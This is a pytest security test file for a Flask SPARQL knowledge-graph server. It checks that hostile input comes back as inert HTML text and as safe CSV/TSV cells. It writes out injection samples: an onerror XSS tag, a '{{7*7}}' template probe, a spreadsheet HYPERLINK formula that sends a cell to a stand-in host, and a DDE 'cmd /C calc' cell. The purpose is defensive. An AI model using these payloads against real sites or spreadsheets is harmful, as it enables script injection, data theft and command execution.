"""Whatever stands in the data or is sent, pages hold it as text: no script, no handler, no odd link."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlencode, urlsplit

import pytest
from conftest import BASE, BROWSER, DATA
from flask.testing import FlaskClient
from lxml import html  # type: ignore[import-untyped]
from werkzeug.test import TestResponse

from kg.config import Settings
from kg.store.versions import Folder
from kg.tokens import Scope, Tokens
from server.app import create_app
from tests.once import copied
from tests.server.hostile_texts import IRIS, PAYLOADS, fill_hostile

_SCRIPTS = {"/static/vendor/yasqe.min.js", "/static/sparql.js"}
_SUBJECTS = "SELECT DISTINCT ?s { { ?s ?p ?o } UNION { ?x ?s ?o } UNION { ?x ?p ?s FILTER(ISIRI(?s)) } }"
_LISTS = ("/", "/persons", "/states", "/organisations", "/initiatives", "/events", "/articles", "/sparql")
_PLACES = (
    "/search?q={}",
    "/search?q=fjellheim&kind={}",
    "/search?q=fjellheim&format={}",
    "/events?type={}",
    "/events?state={}",
    "/persons?page={}",
    "/persons?version={}",
    "/sparql?query={}&format=html",
    "/sparql?query=ASK%7B%7D&format={}",
    "/sparql?query=ASK%7B%7D&default-graph-uri={}",
    "/sparql?query=SELECT+*+FROM+%3C{}%3E+%7B%7D&format=html",
    "/sparql/terms?kind={}",
    "/concept?iri={}",
    "/graphs?graph={}",
    "/graphs/{}",
    "/id/{}",
    "/queries/{}",
    "/{}",
    "/ontology?{}=1&{}=2",
)


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile")
    fill_hostile(path, DATA)
    return path


@pytest.fixture(scope="module")
def client(store: Path) -> Iterator[FlaskClient]:
    app = create_app(store, Settings(store=store, query_workers=1))
    yield app.test_client()
    app.extensions["dataset"].close()


def get(client: FlaskClient, path: str) -> TestResponse:
    response = client.get(path, headers={"Accept": BROWSER}, follow_redirects=True)
    check(response, path)
    return response


def check(response: TestResponse, where: str) -> None:
    """Hold that an answer is data, or a page in which nothing acts."""
    assert response.status_code != 500, where
    assert "X-Injected" not in response.headers
    for name, value in response.headers:
        assert not {"\r", "\n", "\0"} & set(value), (where, name)
    if response.mimetype != "text/html":
        assert "sandbox" in response.headers["Content-Security-Policy"]
        return
    page = html.document_fromstring(response.text)
    assert {script.get("src", "").partition("?")[0] for script in page.iter("script")} <= _SCRIPTS, where
    assert not list(page.iter("iframe", "object", "embed", "base", "math", "animate")), where
    for element in page.iter():
        if not isinstance(element.tag, str):  # a comment
            raise AssertionError((where, element))
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on") and name not in ("style", "srcdoc"), (where, name)
            if name in ("href", "src", "action", "formaction", "{http://www.w3.org/1999/xlink}href"):
                assert urlsplit(value).scheme in ("", "http", "https"), (where, value)
                assert not value.startswith("//"), (where, value)


def test_every_page_of_the_data(client: FlaskClient) -> None:
    found = client.get("/sparql", query_string={"query": _SUBJECTS, "format": "json"})
    iris = [row["s"]["value"] for row in json.loads(found.text)["results"]["bindings"]]
    assert len(iris) > 150 and set(IRIS) <= set(iris)
    pages = 0
    for iri in iris:
        path = (
            f"/id/{quote(iri.removeprefix(BASE))}"
            if iri.startswith(BASE)
            else f"/concept?iri={quote(iri, safe='')}"
        )
        pages += get(client, path).mimetype == "text/html"
    assert pages > 150


@pytest.mark.parametrize("path", [*_LISTS, "/ontology", "/shapes", "/vocabularies", "/id/graph/ontology"])
def test_lists(client: FlaskClient, path: str) -> None:
    assert get(client, path).status_code == 200


@pytest.mark.parametrize("payload", (*PAYLOADS, *IRIS))
@pytest.mark.parametrize("place", _PLACES)
def test_what_a_client_sends_comes_back_as_text(client: FlaskClient, place: str, payload: str) -> None:
    response = get(client, place.replace("{}", quote(payload, safe="")))
    assert response.status_code < 500
    if response.mimetype == "text/html":
        assert "\r\nX-Injected" not in str(response.headers)


def test_templates_in_data_are_not_templates(client: FlaskClient) -> None:
    assert "{{7*7}}" in get(client, "/search?q=%7B%7B7*7%7D%7D").text
    names = "".join(get(client, path).text for path in ("/persons", "/events", "/states", "/articles"))
    assert "{{7*7}}" in names and "49${" not in names


@pytest.mark.parametrize("payload", PAYLOADS)
def test_results_of_queries(client: FlaskClient, payload: str) -> None:
    literal = json.dumps(payload)
    query = f"""SELECT ({literal} AS ?plain) (STRLANG({literal}, "en") AS ?tagged) (IRI("{IRIS[0]}") AS ?iri)
      (STRDT({literal}, IRI("{IRIS[0]}")) AS ?typed) (BNODE() AS ?blank)
      (STRDT({literal}, <http://www.w3.org/2001/XMLSchema#date>) AS ?date) {{}}"""
    page = html.document_fromstring(get(client, "/sparql?" + urlencode({"query": query})).text)
    (cells,) = [
        [cell.text_content() for cell in row.iter("td")]
        for row in page.iter("tr")
        if row.find("td") is not None
    ]
    expected = payload.replace("\r\n", "\n").replace("\r", "\n")
    assert cells[0].replace("\r\n", "\n") == expected
    made = f"CONSTRUCT {{ <urn:a> <urn:b> {literal}, <{IRIS[0]}> }} {{}}"
    assert get(client, "/sparql?" + urlencode({"query": made})).status_code == 200


def test_variables_are_names(client: FlaskClient) -> None:
    query = "SELECT (1 AS ?<img/src=x/onerror=alert(1)>) {}"
    assert get(client, "/sparql?" + urlencode({"query": query})).status_code == 400
    page = get(client, "/sparql?" + urlencode({"query": "SELECT (1 AS ?ﷺ_x\u0301) (2 AS ?\u202e) {}"}))
    assert page.status_code in (200, 400)


@pytest.fixture(scope="module")
def writable(reference_store: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
    path = copied(reference_store, tmp_path_factory.mktemp("writable"))
    app = create_app(path, Settings(store=path, query_workers=1))
    yield app.test_client()
    app.extensions["dataset"].close()
    app.extensions["editing"].close()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_refusals_of_changes(writable: FlaskClient, payload: str) -> None:
    tokens = Tokens(Folder(writable.application.config["SETTINGS"].store).tokens)
    secret = tokens.add(f"writer {PAYLOADS.index(payload)}", Scope.WRITE)
    headers = {"Authorization": f"Bearer {secret}", "Accept": BROWSER}
    turtle = (
        "<a:1> a <http://xmlns.com/foaf/0.1/Person> ; "
        f"<http://xmlns.com/foaf/0.1/name> {json.dumps(payload)}, <{IRIS[0]}> ."
    )
    address = "/graphs?graph=" + quote("urn:x", safe="")
    refused = writable.put(address, data=turtle, content_type="text/turtle", headers=headers)
    assert refused.status_code == 422
    check(refused, payload)
    name = quote(payload, safe="")
    for sent in (
        writable.post(f"/articles?name={name}", data="x", content_type="text/plain", headers=headers),
        writable.put(f"/graphs?graph={name}", data=turtle, content_type="text/turtle", headers=headers),
        writable.put(
            f"/graphs/{name}", data="<a:1> <a:2> <a:3> .", content_type="text/turtle", headers=headers
        ),
    ):
        check(sent, payload)


# ---------------------------------------------------------------------------------- CSV, TSV

CELLS = (
    '=HYPERLINK("http://e.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    '"quoted"',
    "a,b",
    "line\r\nend, and\nanother",
    "\r",
    "tab\tin it",
    'ends with "',
    "",
    " blank ",
    *PAYLOADS,
)


@pytest.mark.parametrize("cell", CELLS)
def test_a_value_is_one_cell_of_csv_as_it_is(client: FlaskClient, cell: str) -> None:
    """RFC 4180: quotes are doubled, and nothing is put before what a spreadsheet takes for a formula."""
    row = f'(1 {json.dumps(cell)} "z")'
    query = f"SELECT ?before (?v AS ?cell) ?after {{ VALUES (?before ?v ?after) {{ {row} }} }}"
    response = client.get("/sparql", query_string={"query": query, "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.text, newline=""), strict=True))
    assert rows == [["before", "cell", "after"], ["1", cell, "z"]]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="results.csv"'
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    tabbed = client.get("/sparql", query_string={"query": query, "format": "tsv"})
    header, row, *rest = tabbed.text.split("\n")
    assert header.split("\t") == ["?before", "?cell", "?after"] and rest == [""]
    assert len(row.split("\t")) == 3
    assert tabbed.headers["Content-Disposition"] == 'attachment; filename="results.tsv"'
